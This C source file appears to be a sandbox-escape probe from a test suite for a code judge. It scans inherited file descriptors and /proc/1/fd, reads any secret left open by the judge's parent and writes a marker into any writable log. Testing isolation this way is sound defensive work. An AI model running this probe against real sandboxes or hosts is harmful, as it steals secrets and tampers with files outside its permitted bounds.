/* Looks for descriptors of the judge the run inherited: every descriptor
 * above the standard streams, directly and through its pid 1's /proc
 * entry. Reads what it can (a secret the judge's parent had open) and
 * writes into what it can (a log the judge's parent had open). */
#include "common.h"
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

static void probe(int fd, const char *how) {
    struct stat st;
    if (fstat(fd, &st) != 0) return;
    char buf[4096];
    ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
    if (n <= 0) n = read(fd, buf, sizeof buf - 1);
    if (n > 0) {
        buf[n] = 0;
        for (ssize_t i = 0; i < n; i++)
            if (buf[i] == '\n' || !buf[i]) buf[i] = ' ';
        printf("PWNED read %s %d: %s\n", how, fd, buf);
        pwned = 1;
    }
    static const char mark[] = "PWNED-WRITE-THROUGH-INHERITED-FD\n";
    if (write(fd, mark, sizeof mark - 1) > 0) {
        printf("PWNED wrote %s %d\n", how, fd);
        pwned = 1;
    }
}

int main(void) {
    /* A pipe the judge's own parent left open with no reader (a shell's,
     * a CI runner's) would end the probe by SIGPIPE before it reaches
     * the descriptors it is after: a broken pipe is just not writable. */
    signal(SIGPIPE, SIG_IGN);
    read_token();
    for (int fd = 3; fd < 1024; fd++) probe(fd, "fd");
    for (int fd = 3; fd < 1024; fd++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/1/fd/%d", fd);
        int r = open(path, O_RDONLY | O_NONBLOCK);
        if (r >= 0) {
            probe(r, path);
            close(r);
        }
        int w = open(path, O_WRONLY | O_NONBLOCK);
        if (w >= 0) {
            probe(w, path);
            close(w);
        }
    }
    report();
    return 0;
}
